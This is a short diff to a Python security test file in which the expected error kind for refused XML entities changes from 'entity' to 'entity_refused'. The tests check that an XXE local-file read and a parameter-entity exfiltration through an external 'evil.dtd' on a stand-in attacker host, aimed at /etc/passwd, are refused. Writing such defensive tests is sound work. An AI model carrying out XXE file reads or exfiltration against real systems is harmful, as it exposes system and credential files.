@@ -76,7 +76,7 @@ def test_xxe_local_file_is_never_read(reference: str) -> None:
             f"<x>&e;</x>").encode()
     cache = RecordingCache()
     res = load_document(body, "file:///srv/doc.xml" if reference[0] != "f" else DOC, cache)
-    assert res.status is LoadStatus.ERROR and res.error_kind == "entity"
+    assert res.status is LoadStatus.ERROR and res.error_kind == "entity_refused"
     assert "never read" in res.error_detail
     assert not any(u.startswith("file:") for u in cache.asked)
     assert not res.needs
@@ -105,7 +105,7 @@ def test_parameter_entity_exfiltration_does_not_leak(site_factory) -> None:
     cache.put(f"{evil.url}/evil.dtd", dtd)
     body = f'<?xml version="1.0"?><!DOCTYPE x SYSTEM "{evil.url}/evil.dtd"><x/>'.encode()
     res = load_document(body, DOC, cache)
-    assert res.status is LoadStatus.ERROR and res.error_kind == "entity"
+    assert res.status is LoadStatus.ERROR and res.error_kind == "entity_refused"
     assert "file:///etc/passwd" in res.error_detail
     assert evil.log == []
     assert not any(u.startswith("file:") for u in cache.asked)
